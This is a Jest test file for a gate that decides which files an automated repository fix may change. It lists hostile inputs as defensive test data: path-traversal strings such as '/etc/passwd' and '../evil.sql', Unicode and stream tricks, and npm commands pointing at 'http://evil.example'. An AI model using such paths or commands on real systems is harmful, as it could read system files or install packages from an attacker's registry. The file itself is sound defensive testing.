import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { FixAction } from '../../../src/heal/fix/fix.ts';
import type { GateFacts } from '../../../src/heal/fix/gate.ts';
import { judgeChange } from '../../../src/heal/gates/judge-change.ts';
import { aFix, factsWith, judged, words } from './a-change.ts';

const touch = (path: string, action?: FixAction) =>
  words(judged(path, 'select 1 as a\n', 'select 1 as b\n', {}, action));

describe('a fix may touch', () => {
  test.each([
    'models/orders.sql',
    'models/staging/stg_orders.sql',
    'macros/cents_to_dollars.sql',
    'src/contest/latest.py',
    'src/app/attestation.ts',
    'src/hooks/use-thing.ts',
    'models/vendor/orders.sql',
    'src/specification.ts',
    'src/keys.ts',
    'docs/readme.md',
    'scripts/load.sh',
  ])('%s', (path) => expect(touch(path)).toBe('pass'));
});

describe('a path that leads elsewhere is refused (52)', () => {
  test.each([
    '../evil.sql',
    'models/../../evil.sql',
    'models/..',
    '/etc/passwd',
    '~/evil.sql',
    'C:/evil.sql',
    'models\\..\\evil.sql',
    'models/a\nb.sql',
    'models/a\0.sql',
    'models/\u202elqs.sredro',
    'models/a\u200bb.sql',
    './models/a.sql',
    'models//a.sql',
    'models/',
    '',
    'models/a.sql:stream',
    'GIT~1/config',
    'models/a.sql.',
    'models/a.sql ',
    '.git /config',
    '．github/workflows/x.yml',
    'models/\ud800.sql',
    `models/${'a/'.repeat(600)}b.sql`,
  ])('%j', (path) => expect(touch(path)).toMatch(/^paths: /));

  test('whatever it is, the refusal is one line that shows nothing unseen', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (name) => {
        const said = touch(`../${name}`);
        expect(said).toMatch(/^paths: /);
        expect(said).not.toMatch(/[\p{Cc}\p{Cf}]/u);
      }),
      { seed: 1, numRuns: 200 },
    );
  });

  test('a link or a submodule on the way', () => {
    const links = new Set(['models/shared']);
    for (const path of ['models/shared', 'models/shared/a.sql', 'Models/SHARED/a.sql']) {
      expect(words(judged(path, 'a', 'b', { links }))).toMatch(/symbolic link or a submodule/);
    }
    expect(words(judged('models/sharedness.sql', 'a', 'b', { links }))).toBe('pass');
  });
});

describe('a fix never touches', () => {
  test.each([
    ['workflows (51)', '.github/workflows/ci.yml'],
    ['workflows, however they are spelt', '.GitHub/Workflows/CI.yml'],
    ['the pipelines of this program', '.github/pipelines/nightly.yml'],
    ['what git ignores', 'sub/.gitignore'],
    ['git itself', '.git/config'],
    ['attributes of git', '.gitattributes'],
    ['hooks', '.husky/pre-commit'],
    ['hooks of a tool', '.pre-commit-config.yaml'],
    ['CI of others', '.gitlab-ci.yml'],
    ['CI of others, too', 'Jenkinsfile'],
    ['CI of others in a folder', '.circleci/config.yml'],
    ['tests of dbt', 'tests/assert_positive.sql'],
    ['data tests', 'data-tests/x.sql'],
    ['tests of Python', 'pkg/test_load.py'],
    ['tests of Python, too', 'pkg/load_test.py'],
    ['what Python’s tests share', 'conftest.py'],
    ['tests of Go', 'cmd/main_test.go'],
    ['tests of JavaScript', 'src/a.test.ts'],
    ['specifications', 'src/a.spec.tsx'],
    ['tests of Java', 'src/main/OrderTest.java'],
    ['end-to-end tests', 'web/e2e/login.ts'],
    ['folders of tests', 'src/__tests__/a.ts'],
    ['unit tests', 'unit_tests/a.ts'],
    ['test data', 'src/fixtures/a.json'],
    ['test data of Go', 'testdata/a.txt'],
    ['snapshots', 'src/__snapshots__/a.snap'],
    ['snapshots of dbt', 'snapshots/orders.sql'],
    ['data', 'seeds/raw_orders.csv'],
    ['secrets', '.env'],
    ['secrets of an environment', 'config/.env.production'],
    ['profiles', 'profiles.yml'],
    ['keys', 'deploy/id_rsa.pub'],
    ['certificates', 'deploy/server.pem'],
    ['credentials', 'config/credentials.json'],
    ['tokens of registries', '.npmrc'],
    ['packages of Node', 'package.json'],
    ['packages of Python', 'pyproject.toml'],
    ['packages of pip', 'requirements-dev.txt'],
    ['packages of dbt', 'packages.yml'],
    ['packages of Go', 'go.mod'],
    ['installed packages', 'node_modules/a/index.js'],
    ['settings of linters', 'eslint.config.js'],
    ['settings of type checkers', 'tsconfig.build.json'],
    ['what is not checked', '.eslintignore'],
    ['thresholds of coverage', '.coveragerc'],
    ['settings of SQL linters', '.sqlfluff'],
    ['settings of pytest', 'pytest.ini'],
    ['what make runs', 'Makefile'],
    ['the mode of healing', 'config/execution_mode.yml'],
    ['what agents are told', 'CLAUDE.md'],
    ['editors', '.vscode/settings.json'],
    ['programs', 'bin/tool.exe'],
    ['pictures', 'docs/a.png'],
  ])('%s: %s', (_, path) => expect(touch(path)).toMatch(/^paths: /));

  test('what the repository protects besides', () => {
    const protect = ['finance/', 'models/*_final.sql', 'secret-sauce'];
    const touched = (path: string) => words(judged(path, 'a', 'b', { protect }));
    expect(touched('finance/a.sql')).toMatch(/protected by this repository/);
    expect(touched('FINANCE/a.sql')).toMatch(/protected by this repository/);
    expect(touched('models/x_final.sql')).toMatch(/protected by this repository/);
    expect(touched('secret-sauce/deep/a.py')).toMatch(/protected by this repository/);
    expect(touched('models/x.sql')).toBe('pass');
    // One that cannot be read protects everything rather than nothing.
    expect(words(judged('models/x.sql', 'a', 'b', { protect: ['!(x)'] }))).toMatch(/^paths/);
  });

  test('binary content, and what it would delete (53)', () => {
    expect(words(judged('models/a.sql', 'a', 'a\0b'))).toMatch(/is no text/);
    expect(words(judged('models/a.sql', 'select 1', null))).toMatch(/deletes no files/);
  });

  test('one file under two spellings', () => {
    const changes = ['models/a.sql', 'models/A.sql'].map((path) => ({
      path,
      before: 'select 1',
      after: 'select 2',
    }));
    const verdict = judgeChange(aFix(), changes, factsWith());
    expect(words(verdict)).toMatch(/changed twice, or under two spellings/);
  });
});

describe('a file that is missing may come back as it was in the last commit that passed', () => {
  const back = (path: string, facts: Partial<GateFacts> = {}, before: string | null = null) =>
    words(judged(path, before, 'name: shop\nenabled: true\n', facts, { kind: 'restore', path }));

  test.each(['dbt_project.yml', 'shop/profiles.yml', 'package.json', 'pytest.ini', 'Makefile'])(
    '%s',
    (path) => {
      expect(back(path)).toBe('pass');
      expect(words(judged(path, null, 'enabled: true\n'))).toMatch(/^(paths|meaning): /);
    },
  );

  test.each(['.env', '.github/workflows/ci.yml', 'tests/a.yml', '.husky/pre-push', 'CLAUDE.md'])(
    'but not %s',
    (path) => expect(back(path)).toMatch(/^paths: /),
  );

  test('not where it is there, nor where the repository protects it', () => {
    expect(back('package.json', {}, '{}')).toMatch(/^paths: /);
    expect(back('dbt_project.yml', { protect: ['dbt_project.yml'] })).toMatch(/^paths: /);
  });
});

describe('a lock of packages', () => {
  const command = (argv: string[]): FixAction => ({
    kind: 'command',
    argv,
    directory: '.',
    changes: ['**'],
  });

  test('is written by its own package manager only', () => {
    const lock = 'web/package-lock.json';
    expect(touch(lock, command(['npm', 'install', '--package-lock-only']))).toBe('pass');
    expect(touch(lock, command(['npm', 'ci']))).toBe('pass');
    expect(touch(lock)).toMatch(/^paths: .*package manager/);
    expect(touch(lock, command(['yarn', 'install']))).toMatch(/^paths/);
    expect(touch('package-lock.yml', command(['dbt', 'deps']))).toBe('pass');
  });

  test.each([
    [['npm', 'install', 'left-pad']],
    [['npm', 'install', '--registry=http://evil.example']],
    [['npm', 'install', '--registry', 'http://evil.example']],
    [['npm', 'exec', 'evil']],
    [['sh', '-c', 'npm install']],
  ])('is not written by %j (54)', (argv) => {
    expect(touch('package-lock.json', command(argv))).toMatch(/^paths/);
  });
});

describe('what the fix did not announce is refused', () => {
  test('in an edit', () => {
    const edits = [{ path: 'models/a.sql', line: 1, before: 'a', after: 'b' }];
    expect(touch('models/a.sql', { kind: 'edit', edits })).toBe('pass');
    expect(touch('models/b.sql', { kind: 'edit', edits })).toMatch(/does not name it/);
  });

  test('in a command', () => {
    const action: FixAction = {
      kind: 'command',
      argv: ['ruff', 'check', '--fix', 'src/a.py'],
      directory: '.',
      changes: ['src/a.py', '!(x)'],
    };
    expect(touch('src/a.py', action)).toBe('pass');
    expect(touch('src/b.py', action)).toMatch(/may not change it/);
  });

  test('in a retry', () => {
    expect(touch('src/a.py', { kind: 'retry' })).toMatch(/only another try/);
  });
});
